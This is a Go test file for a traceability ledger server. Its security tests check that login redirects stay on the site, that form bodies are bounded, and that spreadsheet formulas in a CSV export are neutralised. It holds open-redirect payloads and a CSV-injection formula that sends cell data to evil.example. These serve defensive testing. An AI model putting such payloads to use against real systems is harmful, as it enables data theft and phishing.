package server

import (
	"bytes"
	"encoding/csv"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/plumbline/plumbline/internal/store"
	"github.com/plumbline/plumbline/ledger/contract"
	"github.com/plumbline/plumbline/models"
)

// browserTarget resolves a Location header the way a browser does: tabs
// and newlines anywhere are dropped and a backslash counts as a slash
// (WHATWG URL), so "/\t/evil" and "/\\evil" go to another host.
func browserTarget(loc string) string {
	loc = strings.Map(func(r rune) rune {
		switch r {
		case '\t', '\n', '\r':
			return -1
		case '\\':
			return '/'
		}
		return r
	}, strings.TrimSpace(loc))
	return loc
}

// TestReviewLoginNextStaysOnSite: ?next= of the login page and the login
// form must never send the browser to another host, however it is spelled.
func TestReviewLoginNextStaysOnSite(t *testing.T) {
	f := newFixture(t, false)
	nexts := []string{
		"//evil.example/", "/\\evil.example/", "/\t/evil.example/", "/\n/evil.example/", "/\r\n/evil.example",
		"/\t\\evil.example", "\t//evil.example", "https://evil.example/", "/%09/evil.example",
	}
	offSite := func(loc string) bool {
		b := browserTarget(loc)
		u, err := url.Parse(b)
		return strings.HasPrefix(b, "//") || err != nil || u.Host != "" || u.Scheme != ""
	}
	// Logged in: GET /login?next= redirects at once.
	c := f.login(t, "fuchun-cement.operator")
	for _, n := range nexts {
		req, _ := http.NewRequest(http.MethodGet, f.URL+"/login?next="+url.QueryEscape(n), nil)
		_, _, h := c.do(t, req)
		if loc := h.Get("Location"); offSite(loc) {
			t.Errorf("GET /login?next=%q redirects to %q", n, loc)
		}
	}
	// The login form.
	for _, n := range nexts {
		a := f.anon()
		_, body := a.get(t, "/login")
		a.csrf = csrfField.FindStringSubmatch(body)[1]
		req, _ := http.NewRequest(http.MethodPost, f.URL+"/login", strings.NewReader(url.Values{
			"login": {"fuchun-cement.operator"}, "password": {demoPassword}, "next": {n}, "csrf": {a.csrf}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		code, _, h := a.do(t, req)
		if loc := h.Get("Location"); code != http.StatusSeeOther || offSite(loc) {
			t.Errorf("POST /login next=%q: %d to %q", n, code, loc)
		}
	}
	// Local targets still work.
	req, _ := http.NewRequest(http.MethodGet, f.URL+"/login?next="+url.QueryEscape("/b/X-1?lang=zh-CN"), nil)
	if _, _, h := c.do(t, req); h.Get("Location") != "/b/X-1?lang=zh-CN" {
		t.Errorf("local next lost: %q", h.Get("Location"))
	}
}

// countingReader is an endless request body that counts what the server
// read of it.
type countingReader struct {
	head []byte
	n    int64
	max  int64
}

func (r *countingReader) Read(p []byte) (int, error) {
	if r.n >= r.max {
		return 0, io.EOF
	}
	if r.n < int64(len(r.head)) {
		k := copy(p, r.head[r.n:])
		r.n += int64(k)
		return k, nil
	}
	k := min(int64(len(p)), r.max-r.n)
	for i := range p[:k] {
		p[i] = 'x'
	}
	r.n += k
	return int(k), nil
}

// bigMultipart returns a multipart form with a csrf field and then one
// file part of size bytes, streamed.
func bigMultipart(csrf string, size int64) (*countingReader, string) {
	var head bytes.Buffer
	w := multipart.NewWriter(&head)
	_ = w.WriteField("csrf", csrf)
	_, _ = w.CreateFormFile("junk", "junk.bin")
	return &countingReader{head: head.Bytes(), max: int64(head.Len()) + size}, w.FormDataContentType()
}

// TestReviewFormBodiesBounded: forms that upload nothing (the login form,
// every page form behind requirePage, a cookie-authenticated API write
// whose CSRF token is looked for in the form) must not read an unbounded
// multipart body into memory and temporary files to find a CSRF field.
func TestReviewFormBodiesBounded(t *testing.T) {
	f := newFixture(t, false)
	const size = 64 << 20
	const allowed = 4 << 20 // what any form without a file may need, with room

	a := f.anon()
	_, body := a.get(t, "/login")
	pre := csrfField.FindStringSubmatch(body)[1]
	c := f.login(t, "fuchun-cement.admin")
	base, _ := url.Parse(f.URL)
	for _, tc := range []struct {
		path    string
		cookies []*http.Cookie
		csrf    string
	}{
		{"/login", []*http.Cookie{{Name: preCSRFCookie, Value: pre}}, pre},
		{"/products/new", c.http.Jar.Cookies(base), c.csrf},
		{"/admin/users", c.http.Jar.Cookies(base), c.csrf},
		{"/logout", c.http.Jar.Cookies(base), c.csrf},
		{"/api/v1/products", c.http.Jar.Cookies(base), c.csrf},
	} {
		r, ct := bigMultipart(tc.csrf, size)
		req := httptest.NewRequest(http.MethodPost, tc.path, r)
		req.ContentLength = -1 // streamed: the size is not announced
		req.Header.Set("Content-Type", ct)
		for _, ck := range tc.cookies {
			req.AddCookie(ck)
		}
		rec := httptest.NewRecorder()
		f.srv.Handler().ServeHTTP(rec, req)
		if r.n > allowed {
			t.Errorf("POST %s: the server read %d MB of a form body (status %d)", tc.path, r.n>>20, rec.Code)
		}
		if rec.Code >= 500 {
			t.Errorf("POST %s: %d", tc.path, rec.Code)
		}
	}
}

// TestReviewTraceCSVFormulas: the trace CSV carries text other
// organizations typed (locations, product and organization names, heat and
// lot numbers). A cell that starts like a formula must not run as one when
// a manager opens the file in a spreadsheet.
func TestReviewTraceCSVFormulas(t *testing.T) {
	f := newFixture(t, true)
	pg, err := f.store.Batches(t.Context(), store.BatchFilter{Custodian: "zhongjian-no8", Status: models.StatusAvailable, Limit: 500})
	if err != nil {
		t.Fatal(err)
	}
	code := ""
	for _, b := range pg.Items {
		if b.Inspection.Usable() && b.Remaining.String() != "0" {
			code = b.Code
			break
		}
	}
	if code == "" {
		t.Fatal("no usable batch at the contractor")
	}
	formula := `=HYPERLINK("https://evil.example/?"&A1,"open")`
	submitAs(t, f, "zhongjian-no8.operator", "RecordUsage", contract.RecordUsageArgs{Batch: code, Quantity: models.MustDecimal("0.001"),
		Location: models.Location{Project: "+SUM(1,1)", Building: "@cmd", Floor: "-2+3", Element: formula}})
	c := f.login(t, "hz-construction-bureau.viewer")
	status, body := c.get(t, "/trace.csv?batch="+url.QueryEscape(code)+"&direction=forward")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if status != http.StatusOK || err != nil {
		t.Fatalf("trace.csv: %d %v", status, err)
	}
	found := false
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts like a formula", cell)
			}
			if strings.Contains(cell, "HYPERLINK") {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("the usage's element is missing from the CSV")
	}
}
